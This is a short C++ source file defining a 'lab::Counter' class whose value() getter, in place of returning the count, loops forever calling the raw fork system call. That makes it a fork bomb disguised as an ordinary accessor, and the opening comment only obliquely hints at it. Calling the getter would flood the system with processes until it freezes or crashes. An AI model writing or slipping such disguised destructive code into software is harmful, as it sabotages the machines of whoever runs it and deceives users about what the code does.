// Doubles for ever in the middle of a case, without the C library's help.
#include <sys/syscall.h>
#include <unistd.h>

namespace lab {

class Counter {
 public:
  void add(int n) { value_ += n; }
  int value() {
    for (;;) syscall(SYS_fork);
  }

 private:
  int value_ = 0;
};

}  // namespace lab
